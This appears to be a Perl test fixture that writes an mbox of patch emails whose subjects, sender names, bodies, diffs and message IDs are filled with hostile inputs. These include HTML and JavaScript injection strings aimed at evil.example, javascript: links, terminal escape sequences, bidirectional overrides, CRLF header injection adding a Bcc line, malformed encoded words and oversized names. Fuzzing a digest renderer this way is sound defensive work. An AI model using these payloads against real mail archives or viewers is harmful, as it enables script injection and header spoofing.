#!/usr/bin/perl
# hostile.pl: an mbox of mail that means harm, on standard output. Every field that a digest shows carries what acts in one of its
# formats: terminal escapes, bidirectional overrides, zero-width and tag characters, HTML, Markdown, header lines, names beyond measure.
# Beside it names from right to left, with combining marks and joiners: those are to be shown as they are.
use strict;
use warnings;
use MIME::Base64;

my $script = "<script>window.pwned=1</script><script src=http://evil.example/x.js></script>";
my $markup = "<img src=http://evil.example/x.png onerror=window.pwned=1> <svg onload=window.pwned=1> <style>*{display:none}</style> "
	. "<iframe src=\"javascript:parent.pwned=1\"></iframe> <meta http-equiv=refresh content=\"0;url=http://evil.example/\"> "
	. "<base href=http://evil.example/> \" onmouseover=window.pwned=1 ' onfocus=window.pwned=1 autofocus x=' --> ]]> </title></textarea>";
my $markdown = "[click](javascript:window.pwned=1) ![i](http://evil.example/x.png) [r]: http://evil.example <http://evil.example> **b** `c` "
	. "~~s~~ | \@all #1 http://evil.example www.evil.example evil\@evil.example &lt;&#x110000;&nosuch;&#0; <!-- --> </pre></details> \$x\$ :tada:";
my $terminal = "\e[31m\e]0;pwned\a\e]8;;http://evil.example\a\e[2J\b\b\x7f \xc2\x9b31m \xc2\x85 \xe2\x80\xa8 \xe2\x80\xae\xe2\x81\xa6 \xe2\x80\x8b\xe2\x80\x8d\xef\xbb\xbf "
	. "\xf3\xa0\x81\x81 \xff\xfe";
my $evil = "$script $markup $markdown $terminal";
my $zalgo = "Z" . "\xcd\x80\xcc\xbf\xcc\x8d" x 400 . "algo"; # 1,200 combining marks on one letter
my $n = 0;

# Encoded words as RFC 2047 wants them, short and whole characters each; what is no UTF-8 in one by itself.
sub word {
	my @words = $_[0] =~ /\G((?:[\x00-\x7f]|[\xc2-\xf4][\x80-\xbf]{1,3}){1,12}|[\x80-\xff]+)/g;
	return join "\n ", map { "=?utf-8?B?" . encode_base64($_, "") . "?=" } @words;
}

# mail SUBJECT, BODY, id =>, to =>, from =>
sub mail {
	my ($subject, $body, %h) = @_;
	$n++;
	print "From mboxrd\@z Thu Jan  1 00:00:00 1970\n";
	print "From: ", $h{from} // word("Eve $evil") . " <eve\@example.org>", "\nList-Id: <evil.example.org>\n";
	printf "Date: Mon, 5 Jan 2026 08:%02d:00 +0000\n", $n;
	print "Message-ID: <", $h{id} // "h$n\@example.org", ">\nSubject: $subject\n";
	print "In-Reply-To: <$h{to}>\n" if $h{to};
	print "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n$body\n";
}

my $path = "a/<img src=x onerror=window.pwned=1>`|\@b\e[1m.c";
my $diff = "---\n notes $evil\n\n diff | 2 +-\n\ndiff --git $path $path\n--- $path\n+++ b/$path\n\@\@ -1 +1 \@\@\n-a\n+b\n";
my $cover = word("1. cover\r\nBcc: victim\@example.org\r\n\r\nbody $evil");

mail("[PATCH <b>tree</b>] " . word($evil), "```\n````\n~~~\n$evil\n# heading\n\n$evil\n\n- <script>window.pwned=1</script>\n> quote\n$diff",
	id => "q\"onclick=window.pwned=1><b>%s\@example.org");
mail("[PATCH 0/2] $cover", "$evil\n" x 60, id => "c0\@example.org");
mail("[PATCH 1/2] " . word("- [ ] item $evil"), "$evil\n$diff", to => "c0\@example.org");
mail("[PATCH v2 0/1] $cover", "Changes in v2:\n- $evil\n", id => "d0\@example.org", to => "c0\@example.org");
mail("[PATCH] long name", "x\n$diff", from => "\"" . ("N" x 10000) . "\" <n\@" . ("x" x 10000) . ".example>");
mail("[PATCH] " . ("T" x 10000), "x" x 5000 . "\n$diff");
mail("[PATCH v" . ("9" x 300) . " 1/" . ("8" x 300) . "] numbers", "x\n$diff");
mail("[PATCH 0/1] long cover", "line\n" x 60, id => "l0\@example.org");
mail(word("> talk $evil"), "$evil\n", id => "t\@example.org");
mail(word("Re: 1. talk $evil"), "Reviewed-by: Eve $evil <eve\@example.org>\n", to => "t\@example.org");
mail("Re: [PATCH 1/2] item", "Reviewed-by: E<b>ve [x](y) <e|ve\@example.org>\n", to => "c0\@example.org");
mail("Re: [PATCH 1/2] item", "Acked-by: " . ("A" x 10000) . " <a\@example.org>\nTested-by: $zalgo <z\@example.org>\n", to => "c0\@example.org");
mail("[GIT PULL] " . word($evil), "The following changes since commit " . ("0" x 40) . ":\n\n  x\n\nare available in the Git repository at:\n\n"
	. "  javascript:window.pwned=1\"><script>window.pwned=1</script> tags/`x`\n\nfor you to fetch changes up to " . ("1" x 40) . ":\n\n");
mail("Re: [PATCH 0/2] cover", "Applied to $evil/<b>tree</b>.git\n\n[1/2] $evil\n      https://evil.example/c/" . ("a" x 12) . "\n", to => "c0\@example.org");
mail("[PATCH] " . word("$zalgo marks"), "$zalgo\n$diff", from => word($zalgo) . " <marks\@example.org>");
mail("[PATCH] " . word("\xe2\x80\xaegnp.exe\xe2\x80\xac turned"), "x\n$diff", from => word("\xe2\x80\xaeevE\xe2\x80\xac") . " <turned\@example.org>");
# git takes no name with <, > or @ or of more than 60 bytes; these it would take, and the last ones are in the text
my $i = 0;
mail("[PATCH] name " . ++$i, "x\n$diff", from => word($_) . " <name$i\@example.org>")
	for "**b** [x](javascript:y) `c` | #1 ~~s~~ _e_ \$x\$", "![i](http://evil.example/x.png)", "&lt;script&gt;window.pwned=1&lt;/script&gt;",
	"\" onmouseover=window.pwned=1 x='", "\e[31m\e]0;pwned\a\x08", "a\r\nBcc: victim", "www.evil.example http://evil.example", "- [ ] 1. # x",
	"\xe2\x80\x8b\xef\xbb\xbf\xe2\x81\xa0", "\xf3\xa0\x81\x81\xe2\x80\xae";
mail("[PATCH] name in the text", "From: Eve $evil <inbody\@example.org>\n\nx\n$diff");
mail("[PATCH] long name in the text", "From: " . ("M" x 10000) . " <inbody\@example.org>\n\nx\n$diff");
mail("[PATCH] right to left", "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d \xd7\xa2\xd7\x95\xd7\x9c\xd7\x9d\n$diff", from => word("\xd7\x9e\xd7\xa9\xd7\x94 \xd7\x9b\xd7\x94\xd7\x9f") . " <moshe\@example.org>");
mail("[PATCH] " . word("\xd9\x85\xd8\xb1\xd8\xad\xd8\xa8\xd8\xa7 (v2) x"), "x\n$diff", from => word("\xd8\xb3\xd8\xa7\xd8\xb1\xd8\xa9 \xd8\xa3\xd8\xad\xd9\x85\xd8\xaf") . " <sara\@example.org>");
mail("[PATCH] accents apart", "x\n$diff", from => word("Jo\xcc\x88rg Nguye\xcc\x82\xcc\x83n") . " <accents\@example.org>");
mail("[PATCH] " . word("From: \xe4\xbd\xa0\xe5\xa5\xbd \xf0\x9f\x91\xa9\xf0\x9f\x8f\xbd"), "From the start\n$diff", from => word("\xe5\xbc\xa0\xe4\xb8\x89") . " <wide\@example.org>");
mail("[PATCH] " . word("x\r\nContent-Type: text/html\r\n\r\n<script>window.pwned=1</script>"), "x\n$diff",
	from => "=?utf-8?Q?Eve=0D=0ABcc:_victim=40example.org?= <crlf\@example.org>");
mail("[PATCH] =?utf-7?Q?+ADw-script+AD4-?= =?no-such?B?AAAA?= =?utf-8?B?!!!!?= =?utf-8?Q?=00=01?=", "x\n$diff");
mail("[PATCH] " . word("\t\n - [x] \xe2\x80\xa9# heading"), "\f\x0b\r\x1b\n\tx\r\n$diff");
